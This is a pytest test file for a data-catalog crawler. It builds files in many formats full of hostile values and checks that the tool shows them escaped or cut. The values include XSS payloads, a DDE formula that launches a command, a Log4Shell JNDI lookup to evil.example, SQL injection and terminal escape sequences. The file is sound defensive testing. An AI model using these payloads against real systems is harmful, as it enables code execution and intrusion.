"""Values that attack whoever shows them, or that no type foresees: a crawl ends, and they are shown harmlessly or cut with a mark."""

from __future__ import annotations

import datetime as dt
import io
import json
import math
import pickle
import re
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import fastavro
import pandas as pd
import pyarrow as pa
import pyarrow.orc
import pyarrow.parquet as pq
import pytest

from s3_catalog_tests.cli.commands import Answer, run
from s3_catalog_tests.formats import workbooks

LONG = "long " * 2_000_000
"""10 MB."""
TEXTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b[2J\x1b[1;31mred\x1b]0;title\x07",
    "right\u202eto left",
    "null\0inside",
    "bell\x07 back\x08 cr\rlf\n tab\t",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE assets; --",
    "[bold red]markup[/]",
    "\ufeffmarked\u200b",
    "😀" * 300,
    "a" * 5000,
]
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
NUMBERS = [math.nan, math.inf, -math.inf, 1e308, -0.0, 5e-324, 1.5, None]
DAYS = [dt.date(1, 1, 1), dt.date(9999, 12, 31), dt.date(2024, 2, 29), None]
MILLISECONDS = [-(2**62), 2**62, 0, -62135596800_000, 253402300799_000]
NOT_UTF8 = b"\xff\xfe\xc3\x28 broken \xed\xa0\x80"


def table() -> pa.Table:
    rows = len(TEXTS)

    def fill(values: list[Any]) -> list[Any]:
        return [values[row % len(values)] for row in range(rows)]

    return pa.table(
        {
            "text": TEXTS,
            "number": pa.array(fill(NUMBERS), pa.float64()),
            "day": pa.array(fill(DAYS), pa.date32()),
            "moment": pa.array(fill(MILLISECONDS), pa.timestamp("ms")),
            "zoned": pa.array(fill(MILLISECONDS), pa.timestamp("ms", tz="UTC")),
            "big": pa.array(fill([2**63 - 1, -(2**63), None]), pa.int64()),
            "nested": [[{"k": text}] for text in TEXTS],
        }
    )


def not_utf8(field: pa.DataType) -> pa.Array:
    offsets = struct.pack("<ii", 0, len(NOT_UTF8))
    return pa.Array.from_buffers(field, 1, [None, pa.py_buffer(offsets), pa.py_buffer(NOT_UTF8)])


def parquet(rows: pa.Table) -> bytes:
    sink = io.BytesIO()
    pq.write_table(rows, sink)
    return sink.getvalue()


def orc(rows: pa.Table) -> bytes:
    sink = io.BytesIO()
    pyarrow.orc.write_table(rows, sink)
    return sink.getvalue()


def arrow(rows: pa.Table) -> bytes:
    sink = io.BytesIO()
    with pa.ipc.new_file(sink, rows.schema) as writer:
        writer.write_table(rows)
    return sink.getvalue()


def avro() -> bytes:
    sink = io.BytesIO()
    fields = [{"name": "text", "type": "string"}, {"name": "number", "type": "double"}, {"name": "raw", "type": "bytes"}]
    rows = [{"text": text, "number": number or 0.0, "raw": NOT_UTF8} for text in TEXTS for number in NUMBERS[:3]]
    fastavro.writer(sink, fastavro.parse_schema({"type": "record", "name": "row", "fields": fields}), rows)
    return sink.getvalue()


def csv_text(texts: list[str]) -> bytes:
    quoted = ['"' + text.replace('"', '""') + '"' for text in texts]
    return ("text,number,day\n" + "".join(f"{text},NaN,0001-01-01\n{text},inf,9999-12-31\n" for text in quoted)).encode()


def json_text() -> bytes:
    rows = [{"text": text, "number": 1e308, "day": "0001-01-01"} for text in TEXTS]
    lines = [json.dumps(row) for row in rows] + [
        r'{"text": "half \ud800 character", "number": NaN}',
        '{"text": "-Infinity", "number": -Infinity}',
    ]
    return "\n".join(lines).encode()


def xml_text() -> bytes:
    rows = [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text).replace("&", "&amp;").replace("<", "&lt;") for text in TEXTS]
    return ("<rows>" + "".join(f"<row><text>{text}</text><day>0001-01-01</day></row>" for text in rows) + "</rows>").encode()


def visible(texts: list[str]) -> list[str]:
    return [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text) for text in texts]


def frame() -> bytes:
    return pickle.dumps(pd.DataFrame({"text": TEXTS, "number": [NUMBERS[row % len(NUMBERS)] for row in range(len(TEXTS))]}))


FILES: dict[str, Callable[[], bytes]] = {
    "parquet/rows.parquet": lambda: parquet(table()),
    "parquet_long/rows.parquet": lambda: parquet(pa.table({"text": [LONG, "short"], "n": [1, 2]})),
    "parquet_bytes/rows.parquet": lambda: parquet(pa.table({"text": not_utf8(pa.string()), "raw": not_utf8(pa.binary())})),
    "arrow/rows.arrow": lambda: arrow(table()),
    "arrow_bytes/rows.arrow": lambda: arrow(pa.table({"text": not_utf8(pa.string()), "raw": not_utf8(pa.binary())})),
    "orc/rows.orc": lambda: orc(table().drop_columns(["moment", "zoned"])),
    "orc_bytes/rows.orc": lambda: orc(pa.table({"text": not_utf8(pa.string())})),
    "avro/rows.avro": avro,
    "csv/rows.csv": lambda: csv_text([text for text in TEXTS if "\0" not in text]),
    "csv_null/rows.csv": lambda: csv_text(TEXTS),
    "csv_bytes/rows.csv": lambda: b"text,n\n" + NOT_UTF8 + b",1\nplain,2\n",
    "csv_long/rows.csv": lambda: csv_text([LONG]),
    "tsv/rows.tsv": lambda: b"text\tn\n\x1b[31mred\t1\n=1+1\t2\n",
    "jsonl/rows.jsonl": json_text,
    "json/rows.json": lambda: b"[" + b",".join(json_text().splitlines()[: len(TEXTS)]) + b"]",
    "json_long/rows.jsonl": lambda: json.dumps({"text": LONG}).encode(),
    "json_bytes/rows.jsonl": lambda: b'{"text": "' + NOT_UTF8 + b'"}\n{"text": "plain"}\n',
    "xml/rows.xml": xml_text,
    "xlsx/rows.xlsx": lambda: workbooks.xlsx({"Rows": [["text", "n"], *([text[:30000], 1] for text in visible(TEXTS))]}),
    "pickle/rows.pkl": frame,
    "log/rows.log": lambda: b"\x1b[31m" + NOT_UTF8 + b"\n" + TEXTS[0].encode() + b"\n\0\0\0\n",
    "zip/rows.zip": lambda: workbooks.zipped({"a.csv": csv_text([text for text in TEXTS if "\0" not in text])}),
}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    for name, write in FILES.items():
        path = folder / "lake" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(write())
    return folder


@pytest.fixture(scope="module")
def answer(home: Path) -> Answer:
    return run("crawl", home / "lake", "--catalog", f"sqlite:///{home / 'catalog.db'}", "--json")


def show(home: Path, *arguments: str) -> Answer:
    return run(*arguments, "--catalog", f"sqlite:///{home / 'catalog.db'}")


def test_the_crawl_ends(answer: Answer) -> None:
    assert answer.exit_code in (0, 1)


def test_no_description_failed(answer: Answer, home: Path) -> None:
    """Not even in a way that was caught."""
    shown = {table["name"]: show(home, "show", table["name"], "--json").stdout for table in answer.json["tables"]}
    assert {name: text for name, text in shown.items() if "description failed" in text or "detector " in text} == {}
    assert len(shown) > 15


def test_every_file_is_a_table_or_says_why_not(answer: Answer) -> None:
    failed = {failure["key"] for failure in answer.json["ledger"]["failed"]}
    assert failed <= {*filter(re.compile(".*_(null|bytes|long)/").match, FILES), "log/rows.log"}
    assert answer.json["ledger"]["listed"] == len(FILES)


@pytest.mark.parametrize("arguments", [(), ("--json",)])
def test_nothing_shown_moves_a_terminal(answer: Answer, home: Path, arguments: tuple[str, ...]) -> None:
    for table in answer.json["tables"]:
        shown = show(home, "show", table["name"], *arguments)
        assert shown.exit_code == 0
        assert FORBIDDEN.search(shown.stdout + shown.stderr) is None, table["name"]


def test_what_is_long_is_cut_with_a_mark(answer: Answer, home: Path) -> None:
    (table,) = [table for table in answer.json["tables"] if table["name"] == "parquet_long"]
    shown = show(home, "show", table["name"], "--json").stdout
    assert len(shown) < 20_000
    assert re.search(r"long … \([0-9,]+ characters\)$", table["sample_rows"][0]["text"])
    assert (home / "catalog.db").stat().st_size < 5_000_000


def test_samples_and_figures_are_json_that_every_reader_takes(answer: Answer, home: Path) -> None:
    """No NaN, no half characters: other languages' parsers refuse both."""

    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    for table in answer.json["tables"]:
        json.loads(show(home, "show", table["name"], "--json").stdout, parse_constant=refuse)
    json.loads(answer.stdout, parse_constant=refuse)
    answer.stdout.encode("utf-8")


def test_numbers_and_days_at_the_ends_are_shown(answer: Answer) -> None:
    (table,) = [table for table in answer.json["tables"] if table["name"] == "parquet"]
    rows = table["sample_rows"]
    assert {"nan", "inf", "-inf"} <= {row["number"] for row in rows}
    assert {"0001-01-01", "9999-12-31"} <= {row["day"] for row in rows}


def test_the_page_escapes_every_value(answer: Answer, home: Path) -> None:
    assert show(home, "report", str(home / "page.html")).exit_code == 0
    page = (home / "page.html").read_text()
    assert "alert(1)" in page
    assert not re.search(r"<script>alert|<img src=x", page)
